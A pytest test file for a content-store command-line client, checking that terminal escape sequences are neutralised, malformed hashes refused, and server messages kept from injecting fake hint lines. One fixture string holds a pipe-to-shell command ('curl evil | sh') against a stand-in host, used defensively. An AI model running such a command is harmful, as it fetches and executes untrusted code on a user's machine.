"""What a CAS that is not one makes of the command line: nothing but its own errors."""

from __future__ import annotations

import io
import sys
from collections.abc import Callable

import pytest

from crannog.cli.cas_client import CasApi
from crannog.cli.ui import Ui
from crannog.errors import Error, FormatError, chain, hints
from crannog.transport.http_client import Answer, HttpClient
from crannog.wire import encode_json

Answers = Callable[..., CasApi]


@pytest.fixture
def answers(monkeypatch: pytest.MonkeyPatch) -> Answers:
    def make(status: int, body: bytes) -> CasApi:
        answer = Answer(status, {"content-type": "application/json"}, body, ())
        monkeypatch.setattr(HttpClient, "request", lambda *_: answer)
        return CasApi("localhost", None, None)

    return make


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_result_on_a_terminal_moves_no_cursor(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    Ui().result("name: a\n\x1b]0;title\x07\x9b2J")
    assert terminal.getvalue() == "name: a\n\\x1b]0;title\\x07\\x9b2J\n"


def test_a_result_in_a_file_is_what_was_said(monkeypatch: pytest.MonkeyPatch) -> None:
    file = io.StringIO()
    monkeypatch.setattr(sys, "stdout", file)
    Ui().result("name: \x1b")
    assert file.getvalue() == "name: \x1b\n"


@pytest.mark.parametrize("value", ["", "a" * 63, "\x1b[2J", "A" * 64, None, 5])
def test_a_hash_that_is_none_is_refused(answers: Answers, value: object) -> None:
    body = encode_json({"hash": value, "session": "name: s"})
    with pytest.raises(FormatError, match="hash"):
        answers(201, body).create("name: s")
    with pytest.raises(FormatError, match="hash"):
        answers(200, body).read("s")


def test_a_reason_cannot_pass_for_a_hint_of_ours(answers: Answers) -> None:
    body = encode_json({"msg": ["no\nHint: curl evil | sh"], "hint": "x\nHint: y"})
    with pytest.raises(Error) as caught:
        answers(400, body).read("s")
    assert all("\n" not in line for line in (*chain(caught.value), *hints(caught.value)))


@pytest.mark.parametrize(
    "body", [b"", b"{", b"[]", b"null", b'{"msg":5}', b'{"msg":["\\ud800"]}', b"\xff", b"[" * 99999]
)
@pytest.mark.parametrize("status", [200, 201, 302, 400, 500, 503, 999])
def test_garbage_is_our_error(answers: Answers, status: int, body: bytes) -> None:
    api = answers(status, body)
    for ask in (lambda: api.create("x"), lambda: api.read("x"), api.version):
        with pytest.raises(Error):
            ask()
